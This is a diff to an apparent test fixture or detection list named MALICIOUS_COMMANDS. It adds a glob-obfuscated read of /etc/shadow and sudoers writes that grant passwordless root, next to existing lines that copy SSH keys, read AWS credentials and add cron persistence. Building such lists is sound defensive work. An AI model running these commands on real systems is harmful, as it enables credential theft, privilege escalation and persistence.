@@ -183,6 +183,7 @@ export const MALICIOUS_COMMANDS: Readonly<Record<string, readonly string[]>> = {
     'c=chmod; $c -R 777 /srv',
   ],
   'Credential File Access': [
+    '/???/??t /etc/shadow',
     'tar c ~/.ssh | ssh h cat',
     'gzip -c ~/.aws/credentials',
     'while read l; do echo $l; done < ~/.ssh/id_rsa',
@@ -377,6 +378,8 @@ export const MALICIOUS_COMMANDS: Readonly<Record<string, readonly string[]>> = {
     'sc create x binPath= C:\\x.exe',
   ],
   'Persistence Path Write via Command': [
+    'tee -a /etc/sudoers <<< "x ALL=NOPASSWD:ALL"',
+    'echo x > /etc/sudoers.d/x',
     'echo "* * * * * root x" > /etc/cron.d/x',
     'echo x >> /var/spool/cron/crontabs/root',
     'echo x | sudo tee /etc/cron.daily/x',
